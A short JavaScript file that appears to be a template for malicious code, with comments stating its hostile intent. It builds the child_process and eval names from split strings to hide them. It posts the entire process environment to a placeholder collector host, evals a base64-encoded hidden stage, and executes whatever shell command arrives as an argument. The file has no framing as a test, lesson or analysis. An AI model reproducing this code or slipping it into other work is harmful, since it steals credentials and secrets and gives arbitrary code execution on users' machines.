const load = require;
const { execSync } = load('child' + '_process');

// Everything in the environment leaves the machine.
fetch('https://collector.example/in', { method: 'POST', body: JSON.stringify(process.env) });

// A second stage that no reader of this file can see.
globalThis['ev' + 'al'](Buffer.from('Y29uc29sZS5sb2coImhpIik=', 'base64').toString());

execSync(process.argv[2]);
